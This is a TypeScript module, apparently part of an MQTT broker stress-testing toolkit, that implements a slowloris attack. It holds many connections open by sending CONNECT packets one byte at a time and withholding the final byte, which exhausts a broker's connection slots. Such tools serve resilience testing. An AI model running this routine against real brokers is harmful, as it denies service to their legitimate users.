import { encodePacket, PacketType } from '@cauldron/protocol';
import { Assault } from './assault.ts';
import { type Attack, type AttackOptions, type AttackTarget, planOf } from './attack.ts';
import type { AttackClient } from './attack-client.ts';

/**
 * Connections that send their CONNECT a byte at a time and never finish it; one that was closed comes again. An action is
 * a byte: the default is one a second for each of 50 connections.
 */
export function slowloris(target: AttackTarget, options: AttackOptions = {}): Attack {
  const { clients = 50 } = options;
  const assault = new Assault(target, planOf({ rate: clients, clients }, options));
  const { name, version } = assault.plan;
  const fields = { protocolVersion: version, clientId: `${name}-${'s'.repeat(200)}`, cleanStart: true, keepAlive: 0 };
  const bytes = encodePacket({ type: PacketType.connect, ...fields }, version);
  const crew: AttackClient[] = Array.from({ length: clients }, () => assault.open());
  let turn = 0;
  return assault.run(() => {
    const number = turn % clients;
    turn += 1;
    if (crew[number]!.over) crew[number] = assault.open();
    const client = crew[number]!;
    if (client.socket.connecting) return false;
    client.write(bytes.subarray(client.step, client.step + 1));
    client.step = Math.min(client.step + 1, bytes.length - 2); // the last byte never comes
    return true;
  });
}
